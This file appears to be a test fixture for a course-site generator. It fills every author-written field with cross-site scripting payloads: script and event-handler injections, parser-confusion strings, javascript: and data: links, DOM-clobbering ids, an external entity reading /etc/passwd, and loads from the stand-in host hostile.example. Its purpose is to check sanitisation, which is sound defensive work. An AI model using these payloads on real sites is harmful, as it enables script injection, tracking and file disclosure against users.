// A course in which every text that an author can write tries to run something in the reader's browser.

// What each trick runs, if it runs: a note on the window, which the test looks for.
const RUN = 'top.owned=true';
const CODED = [...RUN].map(letter => `&#${letter.charCodeAt()};`).join('');

// Tricks as HTML that is written straight into a text.
export const TRICKS = [
  `<script>${RUN}</script>`,
  `<ScRiPt\n>${RUN}</sCrIpT >`,
  `<script src="https://hostile.example/x.js"></script>`,
  `<script/x>${RUN}</script/x>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" OnErRoR = "${RUN}">`,
  `<img/src/onerror=${RUN}//`,
  `<img src=x onerror="${CODED}">`,
  `<img src="https://hostile.example/track.png">`,
  `<img srcset="https://hostile.example/track.png 1x">`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<p style="animation: x 1s" onanimationstart=${RUN}>x</p>`,
  `<style>@import 'https://hostile.example/x.css'; * { background: url(https://hostile.example/x.png) }</style>`,
  `<link rel=stylesheet href="https://hostile.example/x.css">`,
  `<link rel=prefetch href="https://hostile.example/x">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${CODED}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<base href="https://hostile.example/">`,
  `<meta http-equiv=refresh content="0;url=https://hostile.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<form action="https://hostile.example/" id=app><button>Go</button></form>`,
  `<form><button formaction="javascript:${RUN}">Go</button></form>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<svg onload=${RUN}></svg>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:,${RUN}"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${RUN}"/></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/></svg>`,
  `<svg><image xlink:href="https://hostile.example/track.png"/></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><slot onslotchange=${RUN}></slot></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<plaintext>`,
  `<!-- --><img src=x onerror=${RUN}> -->`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`,
  `</p></main></div><script>${RUN}</script>`,
  `--></style></script></title></textarea><svg onload=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `' autofocus onfocus=${RUN} x='`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a id=currentScript name=currentScript>x</a>`,
  `<img name=getElementById><img name=body>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  `{root}"><img src=x onerror=${RUN}>`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}}`
];

// Tricks as the target of a link or the source of a picture.
export const TARGETS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;&#x61;vascript&colon;${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `&#1;javascript:${RUN}`,
  `&nbsp;javascript:${RUN}`,
  `javascript&#58;//%0a${RUN}`,
  `javascript%3A${RUN}`,
  `\\javascript:${RUN}`,
  `vbscript:${RUN}`,
  `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`.replaceAll(/[<>]/g, encodeURIComponent),
  'data:text/html;base64,PHNjcmlwdD50b3Aub3duZWQ9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5vd25lZD0xIi8+',
  'blob:https://hostile.example/x',
  'filesystem:https://hostile.example/x',
  'view-source:javascript:x',
  'file:///etc/passwd',
  'http://hostile.example/',
  '//hostile.example/',
  '\\\\hostile.example/',
  '/\\hostile.example/',
  'https:hostile.example',
  'https:///hostile.example/',
  'https://hostile.example/"onmouseover="x',
  'https://hostile.example/%3Cscript%3E`<',
  '../../../sw.js',
  'sw.js',
  '?x=1',
  'unit:../../sw.js',
  'unit:"><img'
];

// Pictures that would act when they are opened by themselves.
const SVG = 'xmlns="http://www.w3.org/2000/svg" viewBox="0 0 2 2"';
const XHTML = 'xmlns:h="http://www.w3.org/1999/xhtml"';
export const PICTURES = [
  `<svg ${SVG}><script>${RUN}</script></svg>`,
  `<svg ${SVG} onload="${RUN}"/>`,
  `<svg ${SVG} onload ="${RUN}"/>`,
  `<svg ${SVG} onload\n=\n"${RUN}"/>`,
  `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 2 2"><s:script>${RUN}</s:script></s:svg>`,
  `<svg ${SVG} ${XHTML}><h:script>${RUN}</h:script></svg>`,
  `<svg ${SVG} ${XHTML}><h:iframe srcdoc="&lt;script&gt;${CODED}&lt;/script&gt;"/></svg>`,
  `<svg ${SVG} ${XHTML}><h:meta http-equiv="refresh" content="0;url=https://hostile.example/"/></svg>`,
  `<svg ${SVG}><foreignObject/></svg>`,
  `<svg ${SVG}><animate attributeName="x" onbegin="${RUN}" dur="1s"/></svg>`,
  `<svg ${SVG}><set attributeName="onload" to="${RUN}"/></svg>`,
  `<svg ${SVG}><a href="java&#115;cript:${RUN}"><text y="2">x</text></a></svg>`,
  `<svg ${SVG}><use href="data:image/svg+xml,x#y"/></svg>`,
  `<svg ${SVG} xmlns:x="http://www.w3.org/1999/xlink"><image x:href="https://hostile.example/track.png"/></svg>`,
  `<svg ${SVG}><feImage href="https://hostile.example/track.png"/></svg>`,
  `<svg ${SVG}><rect style="fill:url(https://hostile.example/x#y)"/></svg>`,
  `<svg ${SVG}><style>@import 'https://hostile.example/x.css';</style></svg>`,
  `<svg ${SVG}><style>@\\69mport 'https://hostile.example/x.css';</style></svg>`,
  `<?xml-stylesheet href="https://hostile.example/x.css"?><svg ${SVG}/>`,
  `<?xml-stylesheet type="text/xsl" href="#x"?><svg ${SVG}/>`,
  `<?xml version="1.0" encoding="iso-2022-jp"?><svg ${SVG}/>`,
  `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>${RUN}</script>">]><svg ${SVG}>&x;</svg>`,
  `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`
];

// Where an angle bracket is refused, as in the texts of badges.
const SENTENCES = [`&lt;img src=x onerror=${RUN}&gt;`, `" onload="${RUN}" x="`, `javascript:${RUN}//]]>`];

// Ids that would shadow what scripts look for in the document or on the window, if ids did.
export const IDS = [
  'location', 'document', 'history', 'navigator', 'fetch', 'caches', 'crypto', 'indexeddb', 'body', 'head', 'forms',
  'scripts', 'current-script', 'base', 'attributes', 'children', 'parent', 'top', 'self', 'name', 'length', 'owned'
];

// The same characters in Markdown, whatever they mean otherwise.
export const literal = text => text.replaceAll('\n', ' ').replace(/[!-/:-@[-`{-~]/g, '\\$&');
// The same characters, by number.
const numbered = text => [...text.replaceAll('\n', ' ')].map(letter => /\w|\s/.test(letter) ? letter : `&#${letter.charCodeAt()};`).join('');
const coded = text => `\`\`\` ${text.replaceAll('\n', ' ')} \`\`\``;
const toml = text => JSON.stringify(text.replaceAll('\n', ' '));
const cycle = (list, from) => index => list[(from + index) % list.length];

// A course whose texts are all tricks. `raw` are paragraphs that its unit ends with.
export function course({raw = [], pictures = {}} = {}) {
  const plain = cycle(TRICKS, 0);
  const marked = index => literal(cycle(TRICKS, 30)(index));
  const outcome = (id, index) => `[[outcome]]\nid = "${id}"\ntext = ${toml(plain(index))}\n`;
  const banked = ['one', 'two', 'three'].flatMap((outcome, place) => [1, 2].map(number => `[[item]]
id = "${outcome}-${number}"
kind = "single"
outcome = "${outcome}"
prompt = ${toml(`${place}${number} ${marked(place * 2 + number)}`)}
source = ["a-2023"]
${['x', 'y', 'z'].map((option, index) => `[[item.option]]
id = "${option}"
text = ${toml(`${option} ${marked(place * 7 + index * 3 + number)}`)}
feedback = ${toml(marked(place * 5 + index * 2 + number))}
${option === 'y' ? 'correct = true' : ''}`).join('\n')}
`));
  const lists = TRICKS.map(trick => `- ${literal(trick)}\n- ${numbered(trick)}\n- ${coded(trick)}`);
  return {
    'site.toml': 'url = "https://site.example/academy"\n',
    'pathways.toml': `language = "en-GB"
[[pathway]]
id = "p"
title = ${toml(plain(4))}
courses = ["hostile"]
[[badge]]
id = "b"
kind = "course"
revision = 1
name = ${toml(SENTENCES[0])}
description = ${toml(SENTENCES[1])}
criteria = ${toml(SENTENCES[2])}
motif = "tree"
[badge.needs]
courses = ["hostile"]
[[badge.alignment]]
name = ${toml(SENTENCES[2])}
url = "https://example.org/"
framework = ${toml(SENTENCES[0])}
code = ${toml(SENTENCES[1])}
`,
    'about.md': `+++\ntitle = ${toml(plain(0))}\nlanguage = "en-GB"\n+++\n\n${lists.join('\n')}\n`,
    'hostile/course.toml': `id = "hostile"
title = ${toml(plain(0))}
summary = ${toml(plain(59))}
description = ${toml(plain(31))}
language = "en-GB"
audience = ${toml(plain(4))}
minutes = 41
authors = [${toml(plain(11))}, ${toml(plain(60))}]
provider = ${toml(plain(4))}
contact = ${toml(plain(31))}
licence = "CC-BY-4.0"
reviewed_on = "2026-11-22"
review_by = "2027-11-22"
[revision]
number = 1
date = "2026-11-22"
change = "material"
note = ${toml(plain(5))}
${outcome('one', 4)}${outcome('two', 31)}${outcome('three', 58)}
[assessment]
pass_mark = 50
minutes = 1
draw = [{ outcome = "one", count = 1 }, { outcome = "two", count = 1 }, { outcome = "three", count = 1 }]
`,
    'hostile/sources.toml': `[[source]]\nid = "a-2023"\ntext = ${toml(plain(4))}\nurl = "https://example.org/?a=1&b='%22"\n`,
    'hostile/bank.toml': banked.join('\n'),
    'hostile/01-texts.md': `+++
id = "texts"
title = ${toml(plain(0))}
minutes = 20
outcomes = ["one", "two", "three"]
+++

Opening words [@a-2023].

## ${literal(plain(4))} {#all}

${lists.join('\n')}

> [!CASE] ${literal(plain(31))}
>
> ${literal(plain(0))}

| ${literal(plain(4))} | b |
| --- | --- |
| ${literal(plain(31))} | ${coded(plain(4)).replaceAll('|', '')} |

![${literal(plain(4))}](media/dot.svg "${literal(plain(0)).replaceAll('"', '')}")

${raw.join('\n\n')}

\`\`\`item
id = "check-texts"
kind = "single"
outcome = "one"
prompt = ${toml(marked(0))}
source = ["a-2023"]
${['x', 'y', 'z'].map((option, index) => `[[option]]
id = "${option}"
text = ${toml(`${option} ${marked(index)}`)}
feedback = ${toml(marked(index + 20))}
${option === 'y' ? 'correct = true' : ''}`).join('\n')}
\`\`\`

\`\`\`item
id = "matching-texts"
kind = "matching"
outcome = "two"
prompt = ${toml(marked(1))}
source = ["a-2023"]
${[0, 4, 31].map(index => `[[pair]]
id = "pair-${index}"
left = ${toml(plain(index))}
right = ${toml(plain(index + 1))}
feedback = ${toml(marked(index))}`).join('\n')}
\`\`\`

\`\`\`item
id = "talk"
kind = "scenario"
outcome = "three"
prompt = ${toml(marked(2))}
start = "a"
[[variable]]
id = "trust"
name = ${toml(plain(4))}
start = 1
least = 0
most = 2
[[node]]
id = "a"
text = ${toml(marked(3))}
[[node.choice]]
id = "x"
text = ${toml(marked(6))}
to = "b"
feedback = ${toml(marked(7))}
[[node.choice]]
id = "y"
text = ${toml(marked(8))}
to = "b"
feedback = ${toml(marked(9))}
[[node]]
id = "b"
ending = "good"
text = ${toml(marked(4))}
\`\`\`

## Key terms {#key-terms-texts}

${literal(plain(4))}
: ${literal(plain(31))}

## Further reading {#further-reading-texts}

- ${literal(plain(0))} [@a-2023]
`,
    'hostile/02-ids.md': `+++\nid = "ids"\ntitle = "Ids"\nminutes = 20\noutcomes = ["one"]\n+++\n\nOpening words.\n\n${
      IDS.map(id => `## A block {#${id}}\n\nWords.\n\n`).join('')
    }\`\`\`item
id = "cookie"
kind = "short-text"
outcome = "one"
prompt = "Which word?"
source = ["a-2023"]
accept = ["<img src=x onerror=${RUN}>"]
feedback = "That one."
\`\`\`

## Key terms {#key-terms-ids}

Term
: Meaning.

## Further reading {#further-reading-ids}

- Something [@a-2023].
`,
    'hostile/media/dot.svg': `<svg ${SVG}><title>&lt;script&gt;${RUN}&lt;/script&gt;</title><circle r="1"/></svg>`,
    ...Object.fromEntries(Object.entries(pictures).map(([name, text]) => [`hostile/media/${name}`, text]))
  };
}
